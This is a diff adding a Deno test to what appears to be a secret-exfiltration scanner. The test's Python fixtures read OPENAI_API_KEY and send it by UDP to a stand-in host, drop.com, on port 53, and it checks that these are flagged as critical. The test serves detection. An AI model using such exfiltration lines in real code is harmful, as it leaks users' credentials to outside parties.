@@ -4136,3 +4136,26 @@ Deno.test("functools.partial of a client's function bound to an address sends th
     ["info"],
   );
 });
+
+Deno.test("a datagram's sendto goes to its address, held or made in place, whatever host its data names", () => {
+  const header = "import os, socket\nkey = os.environ['OPENAI_API_KEY']\n";
+  const made = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)";
+  for (
+    const data of ["key.encode()", "(key + ' api.openai.com').encode()"]
+  ) {
+    for (
+      const text of [
+        `${header}${made}.sendto(${data}, ('drop.com', 53))\n`,
+        `${header}s = ${made}\ns.sendto(${data}, ('drop.com', 53))\n`,
+      ]
+    ) assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  }
+  // The vendor's own key to the vendor's own address is only noted.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${header}${made}.sendto(key.encode(), ('api.openai.com', 443))\n`,
+    ),
+    ["info"],
+  );
+});
